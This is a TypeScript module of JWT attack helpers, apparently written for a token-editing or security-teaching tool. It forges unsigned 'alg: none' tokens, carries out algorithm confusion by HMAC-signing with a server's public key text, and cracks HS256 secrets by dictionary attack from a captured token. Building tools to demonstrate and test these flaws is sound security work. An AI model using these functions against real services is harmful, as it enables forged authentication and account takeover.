import { CompactSign, base64url, compactVerify } from 'jose';

const utf8 = (text: string) => new TextEncoder().encode(text);
const encodeJson = (value: unknown) => base64url.encode(utf8(JSON.stringify(value)));

/** Signs header + payload with HS256 and the given key bytes: what an attacker does once the key is known. */
export function signHs256(
  header: Record<string, unknown>,
  payload: Record<string, unknown>,
  key: Uint8Array,
): Promise<string> {
  return new CompactSign(utf8(JSON.stringify(payload))).setProtectedHeader({ ...header, alg: 'HS256' }).sign(key);
}

/**
 * Header and payload as edited, signed again with an HMAC key under the
 * header's own HS256/384/512 (jwt.io's live editing). Any other alg keeps the
 * old signature, which then no longer matches: that is what an edit does.
 */
export async function reencodeToken(
  header: Record<string, unknown>,
  payload: Record<string, unknown>,
  oldSignature: string,
  hmacKey: Uint8Array | null,
): Promise<{ token: string; resigned: boolean }> {
  const alg = header.alg;
  if (hmacKey && (alg === 'HS256' || alg === 'HS384' || alg === 'HS512')) {
    const token = await new CompactSign(utf8(JSON.stringify(payload)))
      .setProtectedHeader({ ...header, alg })
      .sign(hmacKey);
    return { token, resigned: true };
  }
  return { token: `${encodeJson(header)}.${encodeJson(payload)}.${oldSignature}`, resigned: false };
}

/** An unsigned token: alg "none" and an empty signature (RFC 7519 §6). */
export function forgeUnsigned(header: Record<string, unknown>, payload: Record<string, unknown>, alg = 'none'): string {
  return `${encodeJson({ ...header, alg })}.${encodeJson(payload)}.`;
}

/** Key confusion: HMAC keyed with the server's *public* key text, which every attacker can download. */
export function signWithPublicKeyText(
  header: Record<string, unknown>,
  payload: Record<string, unknown>,
  publicKeyPem: string,
): Promise<string> {
  return signHs256(header, payload, utf8(publicKeyPem));
}

export interface CrackProgress {
  tried: number;
  total: number;
}

/**
 * Offline dictionary attack on an HS256 token: HMAC each word and compare.
 * One captured token is all it needs, which is why HMAC secrets must be 256
 * random bits (RFC 8725 §3.5). Yields to the UI between batches.
 */
export async function crackHs256Secret(
  token: string,
  words: readonly string[],
  options: { onProgress?: (p: CrackProgress) => void; signal?: AbortSignal; batch?: number } = {},
): Promise<string | null> {
  const batch = options.batch ?? 100;
  for (let i = 0; i < words.length; i += 1) {
    if (options.signal?.aborted) return null;
    const word = words[i]!;
    const found = await compactVerify(token, utf8(word), { algorithms: ['HS256'] }).then(
      () => true,
      () => false,
    );
    if (found) {
      options.onProgress?.({ tried: i + 1, total: words.length });
      return word;
    }
    if ((i + 1) % batch === 0) {
      options.onProgress?.({ tried: i + 1, total: words.length });
      await new Promise((resolve) => setTimeout(resolve, 0));
    }
  }
  options.onProgress?.({ tried: words.length, total: words.length });
  return null;
}
